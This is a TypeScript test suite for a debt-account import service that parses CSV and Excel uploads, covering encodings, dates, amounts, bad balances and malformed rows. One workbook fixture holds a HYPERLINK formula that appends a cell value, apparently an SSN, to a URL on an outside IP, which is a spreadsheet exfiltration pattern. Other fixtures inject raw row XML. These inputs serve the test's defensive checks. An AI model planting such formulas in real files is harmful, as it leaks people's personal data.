import iconv from 'iconv-lite';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { createMember } from '#test/factories.ts';
import { cellsOf, fileOf, header, line, linesOf, mappingOf, missingValues, workbookOf } from '#test/import-files.ts';
import { createImporter, type Importer } from '#test/imports.ts';
import { startTestServer, type TestServer } from '#test/server.ts';

let server: TestServer;
let my: Importer;
beforeAll(async () => {
  server = await startTestServer();
  my = createImporter(server, await createMember(server));
});
afterAll(async () => {
  await server.stop();
});

/** Uploads a file and has it checked by its headers. */
async function check(name: string, content: string | Uint8Array) {
  const read = await my.upload(name, content);
  expect(read.failure).toBeNull();
  const checked = read.state === 'ready' ? read : await my.map(read, mappingOf(read));
  const rows = await my.rows(read.id, '&state=error&state=warning&state=ok');
  const errors = rows.map(({ row_number: row, problems }) => [
    row,
    ...problems.flatMap(({ level, message }) => (level === 'error' ? [message] : [])),
  ]);
  return { read, checked, rows, errors };
}

it("without a header, by the user's mapping, which is not remembered", async () => {
  const read = await my.upload('list.csv', linesOf(1, 12).join(''));
  expect(read.structure).toMatchObject({ header_rows: [], findings: [{ code: 'no_header' }, { code: 'row_meaning' }] });
  const fields = [
    'client_account_number',
    'first_name',
    'last_name',
    'address_line1',
    'city',
    'state',
    'postal_code',
    'phone',
    'ssn',
  ];
  const columns = [...fields, 'balance', 'date_of_service'].map((field, index) => ({
    index,
    field,
    format: read.structure?.columns[index]?.format ?? {},
  }));
  const checked = await my.map(read, { ...missingValues, columns });
  expect(checked.summary).toMatchObject({ accounts: 12, amount_cents: 150_600, rows: { error: 0 } });
  expect(await my.upload('again.csv', linesOf(21, 32).join(''))).toMatchObject({ state: 'needs_mapping' });
});

it('with its header repeated in the middle and at the end', async () => {
  const { checked, rows } = await check('list.csv', fileOf(line(1), line(2), header, line(3), header));
  expect(checked.summary).toMatchObject({ accounts: 3, rows: { error: 0 } });
  expect(rows.map(({ row_number: row }) => row)).toEqual([2, 3, 5]);
});

it('in Windows-1252, also if a single name at the end proves it, and in UTF-16', async () => {
  const text = fileOf(...linesOf(1, 4000), line(4001, { first: 'José', last: 'Muñoz' }));
  const western = await check('list.csv', iconv.encode(text, 'windows-1252'));
  expect(western.read.structure?.encoding).toBe('windows-1252');
  const [last] = await server.database.query(
    `select record #>> '{person,display_name}' as name from portal.import_rows where import_id = $1 and row_number = 4002`,
    [western.read.id],
  );
  expect(last).toEqual({ name: 'José Muñoz' });
  const wide = await check('list.csv', iconv.encode(fileOf(line(1, { last: 'Müller-Łoś' })), 'utf-16le', { addBOM: true }));
  expect(wide.read.structure?.encoding).toBe('utf-16le');
  expect(wide.rows[0]?.debtor_name).toBe('Ann Müller-Łoś');
});

it('with formulas in a workbook: their stored values', async () => {
  const [head = [], first = [], second = []] = cellsOf(fileOf(line(1), line(2)));
  const kept = { xml: '<c><f>SUM(100,25.5)</f><v>125.5</v></c>' };
  const none = { xml: '<c t="str"><f>HYPERLINK("http://198.51.100.7/"&amp;I3,"x")</f></c>' };
  const rows = [head, [...first.slice(0, 9), kept, ...first.slice(10)], [...second.slice(0, 9), none, ...second.slice(10)]];
  const { rows: found, errors } = await check('list.xlsx', workbookOf({ name: 'Open', rows }));
  expect(found.map(({ amount_cents: cents }) => cents)).toEqual([12_550, null]);
  expect(errors).toEqual([[2], [3, 'Amount placed is missing. Fill it in.']]);
});

it('with mixed date formats in a column: unambiguous dates are read, the user chooses for the rest', async () => {
  const dates = ['3/9/26', '2026-03-14', 'March 5, 2026', '14.03.2026', '25/03/2026', '13/45/2026', '46000'];
  const { errors } = await check('list.csv', fileOf(...linesOf(1, 30), ...dates.map((date, at) => line(100 + at, { date }))));
  expect(errors.slice(30, 33)).toEqual([
    [32, expect.stringContaining('“3/9/26” can be read in two ways, and this column has dates of both.')],
    [33],
    [34],
  ]);
  expect(errors.slice(33).map(([, message]) => message)).toEqual([
    expect.stringContaining('“14.03.2026” has no month 14 when read as M/D/YYYY'),
    expect.stringContaining('“25/03/2026” has no month 25'),
    expect.stringContaining('“13/45/2026” is not a day that exists'),
    expect.stringContaining('“46000” is not a date of the form M/D/YYYY'),
  ]);
});

it('with amounts such as 1.234,56, all or some', async () => {
  const texts = ['1.234,56', '12,50', '1.000.000,00', '250,00', '99,9'];
  const { rows } = await check('list.csv', fileOf(...texts.map((balance, at) => line(at + 1, { balance }))));
  expect(rows.map(({ amount_cents: cents }) => cents)).toEqual([123_456, 1250, 100_000_000, 25_000, 9990]);
  const mixed = await check('list.csv', fileOf(...linesOf(1, 20), line(30, { balance: '1.234,56' })));
  expect(mixed.rows.at(-1)).toMatchObject({ amount_cents: 123_456, state: 'warning' });
  expect(mixed.rows.at(-1)?.problems.filter(({ field }) => field === 'balance')).toHaveLength(1);
});

it('with negative, zero and missing balances: places no account without a positive balance', async () => {
  const texts = ['-50.00', '(50.00)', '50.00-', '0.00', ''];
  const { checked, errors } = await check(
    'list.csv',
    fileOf(...linesOf(1, 20), ...texts.map((balance, at) => line(at + 30, { balance }))),
  );
  expect(checked.summary).toMatchObject({ accounts: 20, amount_cents: 251_000, error_cents: -15_000, rows: { error: 5 } });
  const nothing = 'Amount placed is zero or a credit: nothing is owed. Skip this row.';
  expect(errors.slice(20)).toEqual([
    ...[22, 23, 24, 25].map((row) => [row, nothing]),
    [26, 'Amount placed is missing. Fill it in.'],
  ]);
});

it('with an extra comma, and truncated within a row: neither is placed as is', async () => {
  const shifted = line(3).replace('Example3', 'Smith, Jr');
  const { checked, errors } = await check('list.csv', `${fileOf(...linesOf(11, 30))}${shifted}${line(4).slice(0, 25)}`);
  expect(checked.summary?.accounts).toBe(20);
  expect(errors.slice(20)).toEqual([
    expect.arrayContaining([22, expect.stringContaining('more cells than the header has names')]),
    expect.arrayContaining([23, expect.stringMatching(/ends before its last columns|too few cells/)]),
  ]);
});

it('with a stray cell far below, and the last possible row hidden', async () => {
  const rows = cellsOf(fileOf(...linesOf(1, 3)));
  const stray = { xml: '</row><row r="400000"><c r="B400000" t="inlineStr"><is><t>x</t></is></c>' };
  const hidden = { xml: '</row><row r="1048576" hidden="1">' };
  const { checked, errors } = await check('list.xlsx', workbookOf({ name: 'Open', rows: [...rows, [stray, hidden]] }));
  expect(checked.summary).toMatchObject({ accounts: 3, rows: { error: 1 } });
  expect(errors.at(-1)?.[0]).toBe(400_000);
});
